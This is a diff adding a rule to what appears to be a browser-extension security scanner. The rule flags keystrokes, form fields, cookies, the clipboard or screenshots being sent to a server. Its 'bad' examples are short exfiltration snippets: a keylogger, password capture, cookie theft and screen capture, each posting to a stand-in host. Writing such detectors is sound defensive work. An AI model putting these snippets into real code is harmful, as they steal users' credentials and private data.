@@ -1,0 +1,52 @@
+import { flowsOf } from '../../flows/flowsOf.ts';
+import { hitsOfFlows, milder, staysHere, type Weight } from '../../flows/hits.ts';
+import type { Severity } from '../../../model/finding.ts';
+import type { Flow } from '../../flows/flow.ts';
+import type { SourceKind } from '../../flows/kinds.ts';
+import { sample } from '../../flows/sample.ts';
+import { defineRule } from '../../rule.ts';
+
+const SEVERITY: Partial<Record<SourceKind, Severity>> = {
+  keys: 'critical', 'form-input': 'high', clipboard: 'high', 'page-cookies': 'high', 'page-content': 'medium', screenshot: 'medium', geolocation: 'medium',
+};
+
+function weigh(flow: Flow): Weight | undefined {
+  const { source, sink, unit } = flow;
+  const severity = SEVERITY[source.kind];
+  if (sink.kind !== 'network' || severity === undefined || staysHere(sink.to)) return undefined;
+  const asked = unit.roles.has('popup') && !unit.roles.has('background');
+  const known = sink.to !== undefined && /^(?:https?|wss?):\/\/[^*/]+/.test(sink.to);
+  const where = known ? ` (${sink.to?.slice(0, 80)})` : '';
+  const mild = asked ? milder(severity) : severity;
+  return { severity: flow.checked ? milder(mild) : mild, confidence: flow.stored || !known ? 'medium' : 'high', message: `${source.label.charAt(0).toUpperCase()}${source.label.slice(1)} ${sink.label}${where}.` };
+}
+
+export default defineRule({
+  id: 'input-to-network',
+  title: 'Sends what is typed or shown in pages to a server',
+  severity: 'high',
+  confidence: 'high',
+  category: 'flows',
+  applies: 'extension',
+  cwe: 'CWE-359',
+  why: 'Keys, form fields, the clipboard or the content of pages leave the browser. Passwords, messages and bank pages look the same to such code.',
+  remedy: 'Send page content only when the person asks for it, only what is needed, and never from password or payment fields.',
+  check: (facts) => hitsOfFlows(facts.whole(flowsOf).flows, weigh),
+  examples: {
+    bad: [
+      sample({ content: 'document.addEventListener("keydown", (e) => { fetch("https://collect.example/k?" + e.key); });' }),
+      sample({ content: 'document.forms[0].addEventListener("submit", () => { const p = document.querySelector("input[type=password]").value; navigator.sendBeacon("https://collect.example/f", p); });' }),
+      sample({ content: 'let buffer = ""; window.addEventListener("keypress", function (e) { buffer += String.fromCharCode(e.which) + e.key; }); setInterval(function () { chrome.runtime.sendMessage({ k: buffer }); }, 5000);', background: 'chrome.runtime.onMessage.addListener((m) => { fetch("https://collect.example", { method: "POST", body: m.k }); });' }),
+      sample({ content: 'fetch("https://collect.example/c", { method: "POST", body: document.cookie });' }),
+      sample({ background: 'chrome.tabs.captureVisibleTab(null, {}, (png) => { fetch("https://collect.example/s", { method: "POST", body: png }); });' }),
+      sample({ content: '$("input").on("change", function () { $.post("https://collect.example/v", { v: $(this).val() }); });' }),
+      sample({ content: 'navigator.clipboard.readText().then((t) => axios.post("https://collect.example/p", { t }));' }),
+    ],
+    good: [
+      sample({ content: 'document.addEventListener("keydown", (e) => { if (e.key === "Escape") close(); fetch("https://api.example/ping"); }); function close() {}' }),
+      sample({ content: 'const n = document.querySelector("input").value.length; fetch("https://api.example/n?" + n);' }),
+      sample({ content: 'document.querySelector("input").value = "x"; fetch("https://api.example/x");' }),
+      sample({ background: 'chrome.tabs.captureVisibleTab(null, {}, (png) => { chrome.downloads.download({ url: png, filename: "a.png" }); });' }),
+    ],
+  },
+});
